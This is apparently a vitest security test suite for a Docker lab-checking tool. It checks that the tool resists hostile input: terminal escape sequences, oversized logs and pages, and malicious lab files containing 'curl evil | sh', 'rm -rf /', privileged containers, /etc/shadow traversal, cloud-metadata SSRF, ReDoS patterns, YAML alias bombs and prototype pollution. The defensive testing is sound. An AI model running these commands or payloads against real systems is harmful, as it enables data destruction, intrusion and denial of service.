import { beforeAll, describe, expect, test } from 'vitest'
import { reporters } from '../../src/reporters/reporter.ts'
import { floods, hostileDaemon, says, silent } from '../docker/hostile-daemon.ts'
import { httpServer, saying } from '../docker/servers.ts'
import {
  attacker,
  check,
  checkLab,
  cleanUpAfterwards,
  docker,
  made,
  newName,
  scene,
  until,
} from './attack-bench.ts'

// What is printed, logged, served or written in a lab, so that the terminal, the memory or the reader gives way.

cleanUpAfterwards()

/** Clears the screen, forges a line, reaches for the clipboard, rings, hides, turns the text round. */
const EVIL = '\x1b[2J\r✓ PASS \x1b[42m\x1b]52;c;eA==\x07\x9b8m\x85\u202etxt\u2066\u200b\x7f'
const ALL = Object.keys(reporters).flatMap((name) => ['--reporter', name])
/** What our own reporters paint with; EVIL has none of it. */
const OUR_COLOURS = /\x1b\[(0|1|22|31|32|33|36|39|90)m/g
const UNSAFE = /(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u

describe('A13 · words that would rewrite the terminal are shown, not obeyed', () => {
  let lab: Record<string, object>[]
  let image: string
  beforeAll(async () => {
    const options = ['--label', `evil=${EVIL}`, '--env', `EVIL=${EVIL}`]
    const script = `touch "/etc/lab-result$(printf '\\033')"; printf %s "$EVIL" >/etc/evil; echo "$EVIL"`
    const container = await scene(`: ${EVIL.replaceAll(/[;\r]/g, '')}; ${script}`, ...options)
    image = newName('image')
    made(image)
    await docker('commit', '--author', EVIL, '--message', EVIL, container, image)
    lab = [
      { env: { container, name: 'EVIL', value: 'good' } },
      { command: { container, words: ['good'] } },
      { logs: { container, contains: 'good' } },
      { file: { container, path: '/etc/evil', contains: 'good' } },
      { file: { container, path: '/etc/lab-result', contains: 'good' } },
      { image: { name: image, labels: { evil: 'good' } } },
      { image: { name: image, author: 'good' } },
      { image: { name: image, comment: 'good' } },
      { exec: { container, command: ['cat', '/etc/evil'], stdout: { contains: 'good' } } },
      { exec: { container, command: ['sh', '-c', 'cat /etc/evil >&2'], stderr: { contains: 'good' } } },
    ]
  })

  test.each(['en', 'zh'])(
    'in labels, names of files, variables, commands, logs, pages and headers: %s',
    async (language) => {
      const page = `HTTP/1.1 200 OK\nX-Evil: ${EVIL.replace('\r', '')}\nConnection: close\n\n${EVIL}`
      await using server = await saying(Buffer.from(page))
      const all = [
        ...lab,
        { http: { url: server.url, body: { contains: 'good' } } },
        { http: { url: server.url, header: { 'X-Evil': 'good' } } },
      ]
      for (const env of [{}, { FORCE_COLOR: '1' }]) {
        const { stdout, stderr } = await check(all, { args: [...ALL, '--lang', language], env })
        expect(stdout.replace(OUR_COLOURS, '')).not.toMatch(UNSAFE)
        expect(stderr).toBe('')
        expect(stdout.match(/\\x1b\[2J/g)?.length).toBeGreaterThan(all.length)
      }
      const { exitCode, report } = await check(all)
      expect(exitCode).toBe(1)
      for (const { id, outcome, actual, message } of report.labs[0]!.checks) {
        expect(outcome).toBe('fail')
        // Colours and cursors are no part of what a program prints.
        const isPrinted = all.some(
          (one, index) => id === `check-${index}` && ('logs' in one || 'exec' in one),
        )
        if (isPrinted) expect(`${actual} ${message}`).not.toMatch(UNSAFE)
        else expect(`${actual} ${message}`).toMatch(/\\x1b/)
      }
    },
  )

  test('in the engine’s own words, headers and address', async () => {
    const wanted = [{ container: { name: 'web' } }]
    const escapes = (text: string) => says(500, JSON.stringify({ message: text }))
    await using failing = await hostileDaemon(escapes(EVIL))
    await using lying = await hostileDaemon(silent, (response) =>
      response.socket?.end(`HTTP/1.1 200 ${EVIL}\r\nApi-Version: 1.44\r\nServer: Docker/${EVIL}\r\n\r\nOK`),
    )
    for (const host of [failing.endpoint.url, lying.endpoint.url, `unix:///nowhere/${EVIL}`, EVIL]) {
      const { stdout, stderr, exitCode } = await check(wanted, { args: [...ALL, '--host', host] })
      expect(exitCode).toBe(3)
      expect(stdout + stderr).not.toMatch(UNSAFE)
    }
  })

  test('and words in any language are shown as they are', async () => {
    const container = await scene('', '--env', 'GREETING=你好，Zürich! 🐳')
    const { stdout } = await check([{ env: { container, name: 'GREETING', value: 'x' } }], { args: ALL })
    expect(stdout.match(/你好，Zürich/g)?.length).toBeGreaterThanOrEqual(5)
  })
})

describe('A14 · however much there is, little is read', () => {
  const frugal = { seconds: expect.toSatisfy((it) => it < 12), megabytes: expect.toSatisfy((it) => it < 250) }

  test('a log of tens of megabytes, and one that does not stop growing', async () => {
    const long = await attacker('busybox', 'sh', '-c', 'yes | head -c 40000000; exec sleep 600')
    const endless = await attacker('--log-opt', 'max-size=20m', 'busybox', 'yes')
    await until(async () => (await docker('top', long, '-eo', 'pid,args')).includes('sleep 600'))
    await until(async () => (await docker('logs', '--tail', '30000', endless)).length > 59_000)
    const logs = (container: string, contains: string) => ({ logs: { container, contains, at_least: 100 } })
    const checked = await check([logs(long, 'y'), logs(long, 'no'), logs(endless, 'y'), logs(endless, 'no')])
    expect(checked).toMatchObject({
      verdicts: ['pass', 'error log-too-long', 'pass', 'error log-too-long'],
      ...frugal,
    })
    await docker('kill', endless)
  })

  test('a program that prints without end', async () => {
    const container = await scene('')
    const exec = { container, command: ['yes'], timeout: 1, stdout: { contains: 'y' } }
    expect(await check([{ exec }])).toMatchObject({ verdicts: ['fail program-not-done'], ...frugal })
  })

  test('a page of 200 MB', async () => {
    const written = { bytes: 0 }
    await using server = await httpServer((request, response) =>
      floods(200_000_000, written)(response, request),
    )
    const page = (contains: string) => check([{ http: { url: server.url, body: { contains } } }])
    expect(await page('xxx')).toMatchObject({ verdicts: ['pass'], ...frugal })
    expect(await page('the end')).toMatchObject({ verdicts: ['error page-too-long'], ...frugal })
    expect(written.bytes).toBeLessThan(100_000_000)
  })
})

describe('A18 · a lab file from a stranger', () => {
  const with_ = (check: object, rest: object = {}) =>
    JSON.stringify({ title: 'A lab', ...rest, checks: [{ id: 'one', title: 'One', ...check }] })
  const http = (url: string) => with_({ http: { url } })
  const text = (matches: string) => with_({ logs: { container: 'web', matches } })
  const runs = (service: object) =>
    with_({ container: { name: 'web' } }, { environment: { containers: [service] } })
  const laughs = Array.from({ length: 30 }, (_, i) => `a${i + 1}: &a${i + 1} [*a${i}, *a${i}]`)

  test.each<[string, string]>([
    ['a key that would be a shell command', with_({ run: 'rm -rf ~' })],
    ['a hook before the checks', with_({ container: { name: 'web' } }, { setup: 'curl evil | sh' })],
    ['a command line in place of words', with_({ exec: { container: 'web', command: 'rm -rf /' } })],
    ['a container with rights', runs({ name: 'web', image: 'nginx', privileged: true })],
    ['a container with a folder of the host', runs({ name: 'web', image: 'nginx', volumes: ['/:/host'] })],
    ['an image that is an option', runs({ name: 'web', image: '--privileged' })],
    ['a name that is an option', runs({ name: '--privileged', image: 'nginx' })],
    ['a port that is more than a port', runs({ name: 'web', image: 'nginx', ports: ['80:80 --privileged'] })],
    ['everything to be removed', with_({ container: { name: 'web' } }, { owns: { containers: ['*'] } })],
    ['a path out of its folder', with_({ file: { container: 'web', path: '../../etc/shadow' } })],
    ['a file of the host', with_({ file: { path: '/etc/shadow' } })],
    ['another host', http('http://example.com/')],
    ['another host after a name', http('http://localhost@example.com/')],
    ['another host that begins alike', http('http://127.0.0.1.example.com/')],
    ['the metadata of a cloud', http('http://169.254.169.254/latest/')],
    ['the metadata of a cloud in IPv6', http('http://[::ffff:169.254.169.254]/')],
    ['a file by its address', http('file:///etc/shadow')],
    ['a registry elsewhere', with_({ registry: { image: 'registry.example.com/me/app:1' } })],
    ['a pattern that looks back', text('(a)\\1')],
    ['a pattern that takes for ever to compile', text('((a{1000}){1000}){1000}')],
    ['a pattern that takes minutes to match', text('(a{1,1000})+[bc]')],
    ['a bomb of aliases', `title: A lab\na0: &a0 [x, x]\n${laughs.join('\n')}\nchecks: *a30\n`],
    ['a prototype', '{"__proto__": {"passed": true}, "title": "A lab", "checks": []}'],
    ['a prototype as a check kind', with_({ constructor: { prototype: {} } })],
    ['code', 'title: !!js/function "function () { process.exit(0) }"\nchecks: []\n'],
  ])('%s is refused, and nobody is asked anything', async (_, yaml) => {
    let asked = 0
    await using daemon = await hostileDaemon(silent, () => void asked++)
    const refused = await checkLab(yaml, { env: { DOCKER_HOST: daemon.endpoint.url }, args: [] })
    expect(refused).toMatchObject({ exitCode: 2, stdout: '', stderr: expect.stringContaining('lab.yaml') })
    expect(refused.seconds).toBeLessThan(5)
    expect(asked).toBe(0)
  })

  test.each(['(a+)+$', '(a|aa)+b', '(.*)*[bc]', '(a{1,30})+[bc]'])(
    'a pattern that others match for ever is matched in time: %s',
    async (matches) => {
      const page = `${'a'.repeat(1024 * 1024)}!`
      await using server = await httpServer((_, response) => response.end(page))
      const { exitCode, seconds } = await check([{ http: { url: server.url, body: { matches } } }])
      expect([0, 1, 3]).toContain(exitCode)
      expect(seconds).toBeLessThan(20)
    },
  )
})
